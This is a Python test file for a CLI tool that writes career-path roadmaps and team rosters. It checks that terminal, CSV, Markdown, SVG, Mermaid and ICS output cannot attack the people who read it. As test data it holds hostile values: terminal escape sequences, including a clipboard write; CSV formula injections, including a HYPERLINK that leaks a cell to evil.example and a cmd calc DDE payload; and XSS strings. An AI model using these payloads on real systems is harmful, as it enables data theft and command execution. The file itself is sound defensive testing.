"""Output that cannot attack its reader: whatever a profile, roster or overlay holds, no escape
sequence reaches the terminal, no formula a spreadsheet would run reaches a CSV file, Markdown and
SVG stay markup-free and well-formed, and a calendar holds only what RFC 5545 allows.

The properties run every writer (each command and format) over generated profiles and rosters whose
text is anything at all; the examples pin the cases a person found by hand.
"""

from __future__ import annotations

import csv
import io
import json
import re
import xml.dom.minidom
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
import yaml
from conftest import EXAMPLES
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from typer.testing import CliRunner

from codingpath.cli import app
from codingpath.load.roster import REQUIRED_COLUMNS

runner = CliRunner()

TERMINAL_NAME = "X\x1b]0;TITLE\x1b\\\x1b[2J\x1b]52;c;SGVsbG8=\x1b\\\x07\x9b31m"
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|'/c calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]
# A terminal obeys C0 controls but tab and newline, DEL and the C1 controls (0x9b is an 8-bit CSI).
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
LIVE_FORMULA = re.compile(r"^[=+\-@\t\r]")
PLAIN_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")

PROFILE_COMMANDS: list[list[str]] = [
    ["next", "--format", fmt] for fmt in ("table", "json", "markdown", "csv")
] + [
    ["roadmap", "--format", fmt] for fmt in ("table", "json", "markdown", "csv", "html", "svg")
] + [
    ["plan", "--format", fmt] for fmt in ("table", "json", "markdown", "csv")
] + [
    ["renewals", "--format", fmt] for fmt in ("table", "json", "markdown", "csv", "ics")
] + [
    ["graph", "--format", fmt] for fmt in ("mermaid", "dot", "json")
] + [["check", "--format", fmt] for fmt in ("table", "json", "markdown", "csv")]
TEAM_FORMATS = ("table", "json", "markdown", "csv")

PROPERTY = settings(max_examples=15, deadline=timedelta(seconds=30), database=None,
                    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])


def run(args: list[str]) -> Any:
    result = runner.invoke(app, args)
    assert result.exception is None or isinstance(result.exception, SystemExit), (args, repr(result.exception))
    return result


def assert_safe(args: list[str], result: Any) -> None:
    """The checks every writer's output passes, whatever its input held."""
    assert result.exit_code in (0, 1, 2), (args, result.output)
    assert "Traceback" not in result.stderr
    assert not CONTROL.search(result.stderr), (args, result.stderr)
    out = result.stdout
    if "ics" in args:
        assert not CONTROL.search(out.replace("\r\n", "\n")), (args, out)
    else:
        assert not CONTROL.search(out), (args, out)
    if "csv" in args and result.exit_code != 2 and out:
        for row in csv.reader(io.StringIO(out)):
            for cell in row:
                assert not LIVE_FORMULA.match(cell) or PLAIN_NUMBER.match(cell), (args, cell)
    if "svg" in args and result.exit_code == 0:
        xml.dom.minidom.parseString(out.encode("utf-8"))
    if "json" in args and result.exit_code != 2 and out:
        json.loads(out)


def profile_with(name: str, tmp_path: Path) -> Path:
    data = yaml.safe_load((EXAMPLES / "experienced-coder.yaml").read_text())
    data["name"] = name
    path = tmp_path / "hostile.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=False, sort_keys=False), encoding="utf-8")
    return path


def roster_with(names: list[str], tmp_path: Path, *, current_role: str = "medical-coder") -> Path:
    path = tmp_path / "roster.csv"
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(REQUIRED_COLUMNS)
        for name in names:
            writer.writerow([name, "associate", "CPC", "3", current_role])
    return path


# -- properties ------------------------------------------------------------------------------------

hostile_text = st.text(
    alphabet=st.one_of(st.characters(codec="utf-8", exclude_categories=("Cs",)),
                       st.sampled_from(list("\x1b\x07\x9b\x7f=+-@\t\r\n<>&\"'|#`[]*_"))),
    min_size=1, max_size=40,
).filter(lambda t: t.strip() != "")


@PROPERTY
@given(name=hostile_text, command=st.sampled_from(PROFILE_COMMANDS))
def test_any_profile_name_through_any_writer_is_safe(tmp_path_factory: pytest.TempPathFactory, name: str,
                                                     command: list[str]):
    path = profile_with(name, tmp_path_factory.mktemp("p"))
    args = [*command, str(path)] if command[0] == "check" else [*command, "--profile", str(path)]
    assert_safe(args, run(args))


@PROPERTY
@given(names=st.lists(hostile_text, min_size=1, max_size=4), fmt=st.sampled_from(TEAM_FORMATS))
def test_any_roster_through_team_in_any_format_is_safe(tmp_path_factory: pytest.TempPathFactory,
                                                       names: list[str], fmt: str):
    path = roster_with(names, tmp_path_factory.mktemp("r"))
    args = ["team", str(path), "--format", fmt]
    assert_safe(args, run(args))


# -- the cases found by hand ---------------------------------------------------------------------------


@pytest.mark.parametrize("command", PROFILE_COMMANDS, ids=lambda c: " ".join(c[::2]))
def test_an_escape_sequence_in_a_name_is_shown_not_obeyed(tmp_path: Path, command: list[str]):
    path = profile_with(TERMINAL_NAME, tmp_path)
    args = [*command, str(path)] if command[0] == "check" else [*command, "--profile", str(path)]
    result = run(args)
    assert result.exit_code == 0, result.output
    assert_safe(args, result)


def test_the_name_is_still_readable_once_escaped(tmp_path: Path):
    result = run(["next", "--profile", str(profile_with(TERMINAL_NAME, tmp_path))])
    assert "X\\x1b]0;TITLE" in result.stdout


@pytest.mark.parametrize("fmt", ["csv", "table", "markdown", "json"])
def test_formulas_in_a_roster_are_never_live_in_csv(tmp_path: Path, fmt: str):
    args = ["team", str(roster_with(FORMULAS, tmp_path)), "--format", fmt]
    result = run(args)
    assert result.exit_code == 0, result.output
    assert_safe(args, result)
    if fmt == "csv":
        names = {row["name"] for row in csv.DictReader(io.StringIO(result.stdout))}
        assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")" in names
        assert "'-2+3" in names and "'@SUM(A1:A9)" in names


def test_csv_keeps_plain_numbers_as_numbers(tmp_path: Path):
    result = run(["team", str(roster_with(["Ann"], tmp_path)), "--format", "csv", "--within", "12"])
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert any(row["months"] and PLAIN_NUMBER.match(row["months"]) for row in rows)


def test_markdown_cannot_break_out_of_a_heading_or_inject_html(tmp_path: Path):
    name = "Ann\n# Injected heading\n<script>alert(1)</script><img src=x onerror=alert(1)>"
    result = run(["roadmap", "--profile", str(profile_with(name, tmp_path)), "--format", "markdown"])
    assert result.exit_code == 0
    assert "<script" not in result.stdout and "<img" not in result.stdout
    assert not any(line.startswith("# Injected") for line in result.stdout.splitlines())


def test_svg_with_control_characters_is_well_formed_xml(tmp_path: Path):
    result = run(["roadmap", "--profile", str(profile_with("A\x1b\x07<b>&", tmp_path)), "--format", "svg"])
    assert result.exit_code == 0
    xml.dom.minidom.parseString(result.stdout.encode("utf-8"))


def test_mermaid_labels_from_an_overlay_use_entity_codes(tmp_path: Path):
    overlay = yaml.safe_load((EXAMPLES / "employer-ladder" / "roles.yaml").read_text())
    overlay["roles"][0]["title"] = 'Coder"] --> X["<img src=x onerror=alert(1)>#'
    (tmp_path / "roles.yaml").write_text(yaml.safe_dump(overlay, sort_keys=False))
    result = run(["graph", "--data", str(tmp_path)])
    assert result.exit_code == 0, result.output
    line = next(line for line in result.stdout.splitlines() if "onerror" in line)
    assert line.count('"') == 2 and "<img" not in line and '"]' not in line[:-2]


def test_an_ics_calendar_holds_no_control_character(tmp_path: Path):
    result = run(["renewals", "--profile", str(profile_with("Ann\x1b[2J\x07", tmp_path)), "--format", "ics"])
    assert result.exit_code == 0
    assert not CONTROL.search(result.stdout.replace("\r\n", "\n"))


def test_file_names_on_stderr_are_escaped(tmp_path: Path):
    path = tmp_path / "evil\x1b]0;TITLE\x07.yaml"
    path.write_text("name: [unclosed\n")
    result = run(["next", "--profile", str(path)])
    assert result.exit_code == 2
    assert "\x1b" not in result.stderr and "evil\\x1b]0;TITLE\\x07.yaml" in result.stderr


# -- rosters as spreadsheets save them -----------------------------------------------------------------


def test_a_semicolon_separated_roster_is_read(tmp_path: Path):
    path = tmp_path / "europe.csv"
    path.write_text(";".join(REQUIRED_COLUMNS) + "\nAnn Lee;associate;\"CPC;CCA\";3,5;medical-coder\n")
    result = run(["team", str(path), "--format", "json"])
    assert result.exit_code in (0, 1), result.output
    assert result.stdout and json.loads(result.stdout)["people"][0]["name"] == "Ann Lee"


def test_an_unterminated_quote_is_reported_not_swallowed(tmp_path: Path):
    path = tmp_path / "quote.csv"
    path.write_text(",".join(REQUIRED_COLUMNS) + '\n"Ann,associate,CPC,3,medical-coder\n'
                    "Bo,associate,CPC,3,medical-coder\nCy,associate,CPC,3,medical-coder\n")
    result = run(["team", str(path), "--format", "json"])
    assert result.exit_code == 1
    assert f"error: {path}:2: a quoted value opened on this line is still open at line 4, so 3 lines were read " \
           "as one row" in result.stderr


def test_near_miss_columns_are_capped(tmp_path: Path):
    path = tmp_path / "wide.csv"
    path.write_text(",".join([*REQUIRED_COLUMNS, *(f"nam{i}" for i in range(100))]) + "\n"
                    + ",".join(["Ann", "associate", "CPC", "3", "medical-coder", *[""] * 100]) + "\n")
    result = run(["team", str(path), "--format", "json"])
    assert result.exit_code == 0
    warnings = [line for line in result.stderr.splitlines() if line.startswith("warning:")]
    assert len(warnings) == 21 and warnings[-1].endswith("... and 80 more columns ignored")
